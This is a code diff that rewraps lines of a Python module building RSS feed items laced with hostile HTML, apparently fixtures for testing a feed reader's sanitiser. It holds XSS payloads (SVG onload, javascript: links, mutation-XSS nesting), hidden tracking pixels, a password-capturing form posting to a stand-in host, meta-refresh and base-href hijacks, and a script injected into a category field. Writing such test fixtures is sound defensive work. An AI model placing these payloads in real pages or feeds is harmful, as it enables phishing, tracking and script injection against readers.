@@ -13,12 +13,15 @@ TRICKS = (
     '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2KTwvc2NyaXB0Pg==">un troisième</a>',
     '<img src="//pisteur.invalid/pixel.gif?lecteur=1" width="1" height="1" alt="">'
     '<img src="http://pisteur.invalid/o.gif" style="display:none" alt="">',
-    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(//pieges.invalid/fond.png)">'
+    "<div "
+    'style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(//pieges.invalid/fond.png)">'
     '<a href="//pieges.invalid/">Fermer</a></div><style>body{display:none}</style>',
-    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><a xlink:href="javascript:alert(8)"><text y="20">Image</text></a>'
+    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(7)"><a xlink:href="javascript:alert(8)"><text '
+    'y="20">Image</text></a>'
     '<foreignObject><iframe srcdoc="&lt;script&gt;alert(9)&lt;/script&gt;"></iframe></foreignObject></svg>',
     '<form action="//pieges.invalid/vol"><input name="motdepasse" type="password"><button>Se connecter</button></form>'
-    '<iframe src="//pieges.invalid/"></iframe><object data="//pieges.invalid/o.swf"></object><base href="//pieges.invalid/">',
+    '<iframe src="//pieges.invalid/"></iframe><object data="//pieges.invalid/o.swf"></object><base '
+    'href="//pieges.invalid/">',
     '<meta http-equiv="refresh" content="0;url=//pieges.invalid/"><link rel="stylesheet" href="//pieges.invalid/s.css">'
     "<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>",
 )
@@ -53,7 +56,9 @@ def _item(view: View, item: Item) -> str:
     title = TITLES[item.number % len(TITLES)].format(title=item.title)
     escaped = text(title).replace("&amp;#13;&amp;#10;", "&#13;&#10;")
     trick = TRICKS[item.number % len(TRICKS)]
-    categories = "".join(f"<category>{text(name)}</category>\n" for name in (*item.categories, '"><script>alert(12)</script>'))
+    categories = "".join(
+        f"<category>{text(name)}</category>\n" for name in (*item.categories, '"><script>alert(12)</script>')
+    )
     return (
         f"<item>\n<title>{escaped}</title>\n<link>{item.url}</link>\n"
         f'<guid isPermaLink="false">{item.key[:20]}&#10;X-Piege: 1</guid>\n'
